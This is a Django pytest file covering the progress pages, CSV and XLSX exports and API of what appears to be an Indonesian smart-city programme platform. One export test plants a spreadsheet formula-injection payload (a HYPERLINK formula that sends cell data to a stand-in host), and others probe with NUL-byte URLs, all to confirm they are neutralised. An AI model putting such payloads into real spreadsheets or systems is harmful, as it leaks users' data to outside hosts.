"""The progress pages, their exports, the region's plan against actual and the progress API."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from kotacerdas.programme.lifecycle import State
from kotacerdas.programme.models import Cohort, Participation
from tests.platform import factories as f
from tests.platform import progress_factories as pf
from tests.platform.test_progress import programme_world  # noqa: F401 - the shared hand-computed world

pytestmark = pytest.mark.django_db


def test_national_page_in_indonesian_formats(programme_world, client):  # noqa: F811
    page = client.get(reverse("web:progress"), HTTP_ACCEPT_LANGUAGE="id").content.decode()
    assert 'id="total-programmes">5<' in page
    assert 'id="share-behind">40,0 %<' in page  # comma decimals
    assert 'id="total-realisation">95,0 %<' in page
    assert "Rp 380 / Rp 400" in page
    assert 'id="total-late">1<' in page
    assert reverse("web:progress-province", kwargs={"code": "63"}) in page  # drill down


def test_national_page_in_english(programme_world, client):  # noqa: F811
    client.post(reverse("web:set_language"), {"language": "en"})
    page = client.get(reverse("web:progress")).content.decode()
    assert "Programme progress" in page and 'id="share-behind">40.0 %<' in page


def test_province_page_links_to_the_region_pages(programme_world, client):  # noqa: F811
    page = client.get(reverse("web:progress-province", kwargs={"code": "63"})).content.decode()
    assert 'id="province-name">Kalimantan Selatan<' in page
    assert reverse("web:region", kwargs={"code": "63.72"}) + "#kemajuan" in page
    assert client.get(reverse("web:progress-province", kwargs={"code": "99"})).status_code == 404
    assert client.get("/kemajuan/provinsi/6%003/").status_code == 404  # a NUL never reaches the database


def test_csv_and_xlsx_exports_neutralise_formulas(programme_world, client):  # noqa: F811
    Cohort.objects.filter(pk=programme_world.pk).update(name='=HYPERLINK("http://x/?"&A1)')
    body = client.get(reverse("web:progress") + "?format=csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert (
        rows[0]["Tingkat"] == "Semua" and rows[0]["Jumlah program"] == "5" and rows[0]["Tertinggal"] == "0.4"
    )
    cohort = next(r for r in rows if r["Tingkat"] == "Kohort" and r["Kunci"])
    assert cohort["Nama"].startswith("'=HYPERLINK")
    assert {r["Kunci"] for r in rows if r["Tingkat"] == "Provinsi"} == {"32", "63"}
    response = client.get(reverse("web:progress-province", kwargs={"code": "63"}) + "?format=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][:3] == ["Tingkat", "Kunci", "Nama"]
    assert any(str(v[2]).startswith("'=HYPERLINK") for v in values)
    assert {v[1] for v in values if v[0] == "Daerah"} == {"63.71", "63.72"}
    assert sheet.title == "Kemajuan program"
    assert sheet["F2"].data_type == "n" and sheet["F2"].number_format == "0.0%"  # a share stays a number


def test_exports_in_english(programme_world, client):  # noqa: F811
    body = client.get(reverse("web:progress") + "?format=csv", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert list(rows[0])[:5] == ["Level", "Key", "Name", "Programmes", "On track"]
    assert rows[0]["Level"] == "All" and rows[0]["Programmes"] == "5"
    assert {r["Level"] for r in rows} == {"All", "Cohort", "Dimension", "Province"}
    url = reverse("web:progress-province", kwargs={"code": "63"}) + "?format=xlsx"
    sheet = load_workbook(io.BytesIO(client.get(url, HTTP_ACCEPT_LANGUAGE="en").content)).active
    assert sheet.title == "Programme progress" and sheet["A1"].value == "Level"
    assert {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)} >= {"All", "Region"}


def _count(client, url: str) -> int:  # type: ignore[no-untyped-def]
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    return len(queries)


def test_query_count_does_not_grow_with_regions(programme_world, client, django_assert_num_queries):  # noqa: F811
    url = reverse("web:progress")
    before = _count(client, url)
    for code in ("35.71", "15.71", "12.71"):  # three more regions, each with a masterplan and actuals
        plan = pf.plan(code, f.participation(code, State.SELECTED, programme_world))
        for dimension in ("living", "economy"):
            item = pf.programme(plan, dimension, status="running")
            pf.kpi(item, {2022: 10, 2023: 20}, {2022: 9, 2023: 25})
            pf.budget(item, 2022, 50, 40)
    assert _count(client, url) == before == 9
    with django_assert_num_queries(before + 1):  # and one for the province's name
        client.get(reverse("web:progress-province", kwargs={"code": "63"}))


def test_region_page_shows_plan_against_actual(programme_world, client, client_for):  # noqa: F811
    own = programme_world.participations.get(region__code="63.71")
    Participation.objects.filter(pk=own.pk).update(
        legal_instrument="perwali", legal_number="12/2022"
    )  # public masterplan
    item = pf.programme(pf.plan("63.71", own, start=2021), "economy", name="Pasar daring")
    pf.kpi(item, {2024: 10}, {2024: 12}, evidence_url="https://bukti.example/laporan.pdf")
    url = reverse("web:region", kwargs={"code": "63.71"})
    page = client.get(url).content.decode()
    assert 'id="kpi-plan-actual"' in page and 'id="budget-plan-actual"' in page
    assert "Rp 100" in page and "80,0 %" in page  # 2022: 80 of 100 realised
    assert 'id="late-years"' in page
    assert "bukti.example" not in page  # evidence stays off the public page
    assert "bukti.example" in client_for("region_team").get(url).content.decode()


def test_a_draft_masterplans_figures_stay_with_its_readers(programme_world, client, client_for):  # noqa: F811
    draft = pf.programme(
        pf.plan("63.71", start=2021), "economy", name="Pasar daring"
    )  # no participation: draft
    pf.kpi(draft, {2024: 10}, {2024: 12})
    url = reverse("web:region", kwargs={"code": "63.71"})
    assert "Pasar daring" not in client.get(url).content.decode()
    assert "Pasar daring" in client_for("region_team").get(url).content.decode()
    assert "Pasar daring" in client_for("secretariat").get(url).content.decode()
    api = reverse("api:progress-region", kwargs={"code": "63.71"})
    assert "Pasar daring" not in client.get(api).content.decode()
    assert "Pasar daring" in client_for("secretariat").get(api).content.decode()


def test_api_aggregates_are_public_and_cacheable(programme_world, client):  # noqa: F811
    response = client.get(reverse("api:progress"))
    assert response.status_code == 200 and "public" in response["Cache-Control"]
    data = response.json()
    assert data["overall"]["counts"] == {"on_track": 1, "behind": 2, "stopped": 1, "no_report": 1}
    assert data["overall"]["budget_realisation"] == pytest.approx(0.95)
    assert data["late_regions"] == [{"code": "63.71", "years": [2023]}]
    again = client.get(reverse("api:progress"), HTTP_IF_NONE_MATCH=response["ETag"])
    assert again.status_code == 304
    province = client.get(reverse("api:progress-province", kwargs={"code": "63"})).json()
    assert [a["key"] for a in province["by_area"]] == ["63.71", "63.72"]
    legalised = programme_world.participations.filter(region__code="63.71")
    legalised.update(legal_instrument="perwali", legal_number="12/2022")  # its masterplan is public now
    region = client.get(reverse("api:progress-region", kwargs={"code": "6371"})).json()
    assert region["budget"][0] == {"year": 2022, "planned": 100, "realised": 80, "rate": 0.8}
    assert "evidence_url" not in region["kpis"][0]["cells"][0]
    assert client.get(reverse("api:progress-province", kwargs={"code": "99"})).status_code == 404
    assert client.get("/api/progress/provinces/6%003/").status_code == 404
    assert client.get("/api/progress/regions/x%00/").status_code == 404
